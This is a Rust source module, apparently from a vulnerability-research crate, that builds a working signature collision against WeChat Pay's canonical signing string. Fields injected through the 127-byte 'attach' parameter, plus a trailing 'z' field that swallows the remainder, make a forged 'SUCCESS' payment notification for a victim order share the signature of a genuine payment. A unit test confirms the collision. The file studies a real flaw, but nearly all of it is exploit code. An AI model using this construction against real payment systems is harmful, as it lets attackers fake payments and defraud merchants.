//! Pairs of messages with one canonical string (WX-SIGN-33, C02): what an attacker signs by paying, what he sends.

use crate::canonical;
use crate::wechat::message::Message;

/// Two messages with one canonical string.
pub(in crate::wechat) struct Collision {
    /// The genuine payment, whose `attach` the payer chose.
    pub(in crate::wechat) signed: Message,
    /// What the attacker sends under its signature.
    pub(in crate::wechat) sent: Message,
}

/// The order that the forged message claims to pay.
pub(in crate::wechat) const VICTIM: &str = "V1";
/// Its amount in fen.
pub(in crate::wechat) const VICTIM_AMOUNT: &str = "10000";

/// The payer's text brings a whole payment of the victim's order; a last field swallows the real one. The text fits
/// into attach's 127 bytes because the required openid, bank_type, cash_fee, time_end and trade_type are left out.
pub(in crate::wechat) fn amount() -> Collision {
    let injected = [
        ("mch_id", "10000100"),
        ("out_trade_no", VICTIM),
        ("result_code", "SUCCESS"),
        ("return_code", "SUCCESS"),
        ("total_fee", VICTIM_AMOUNT),
        ("transaction_id", "1"),
    ];
    let text: String = injected.iter().map(|(name, value)| format!("&{name}={value}")).collect();
    let attach = format!("x{text}&z=");
    let signed = Message::payment().with("attach", attach);
    let string = canonical::wechat(&signed.fields);
    let (_, swallowed) = string.split_once("&z=").expect("the text stands in the string");
    let mut sent = Message::new(&[("appid", "wxd930ea5d5a258f4f"), ("attach", "x")]);
    for (name, value) in injected {
        sent = sent.with(name, value);
    }
    Collision { sent: sent.with("z", swallowed), signed }
}

#[cfg(test)]
mod tests {
    #[test]
    fn the_strings_collide_and_the_text_fits() {
        let collision = super::amount();
        assert_eq!(
            super::canonical::wechat(&collision.signed.fields),
            super::canonical::wechat(&collision.sent.fields)
        );
        assert!(collision.signed.value("attach").len() <= 127);
    }
}
